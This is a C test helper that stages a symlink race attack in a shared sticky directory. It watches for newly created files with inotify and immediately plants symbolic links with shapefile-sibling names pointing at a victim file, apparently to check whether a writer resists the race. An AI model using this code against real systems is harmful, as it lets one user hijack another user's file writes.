/* attacker.c — the other user of a shared sticky folder (tests/safety):
 * watches DIR with inotify and, the moment any entry N appears, plants
 * symbolic links N.shp, N.shx, N.dbf, N.prj, N.cpg, N.qml (and DIR/N/w.*
 * for a new folder) pointing at VICTIM, for SECONDS seconds. Against a
 * writer that creates a name and then opens siblings of it by name, this
 * wins the race. Usage: attacker DIR VICTIM SECONDS */
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <time.h>
#include <unistd.h>
#include <poll.h>

int main(int argc, char **argv) {
    if (argc != 4) return 2;
    const char *dir = argv[1], *victim = argv[2];
    time_t end = time(NULL) + atoi(argv[3]);
    int fd = inotify_init1(IN_NONBLOCK);
    if (fd < 0 || inotify_add_watch(fd, dir, IN_CREATE) < 0) return 1;
    static const char *ext[] = {".shp", ".shx", ".dbf", ".prj", ".cpg", ".qml"};
    char buf[64 * 1024], p[PATH_MAX];
    while (time(NULL) < end) {
        struct pollfd pf = {fd, POLLIN, 0};
        if (poll(&pf, 1, 200) <= 0) continue;
        ssize_t n = read(fd, buf, sizeof buf);
        for (char *q = buf; n > 0 && q < buf + n;) {
            struct inotify_event *e = (struct inotify_event *)q;
            if (e->len) {
                char base[NAME_MAX + 1];
                snprintf(base, sizeof base, "%s", e->name);
                char *dot = strrchr(base, '.');
                if (dot && dot != base) *dot = 0;
                for (int i = 0; i < 6; i++) {
                    snprintf(p, sizeof p, "%s/%s%s", dir, base, ext[i]);
                    if (symlink(victim, p) != 0) continue; /* taken, or not ours to write */
                    snprintf(p, sizeof p, "%s/%s/w%s", dir, e->name, ext[i]);
                    if (symlink(victim, p) != 0) continue; /* taken, or not ours to write */
                }
            }
            q += sizeof *e + e->len;
        }
    }
    return 0;
}
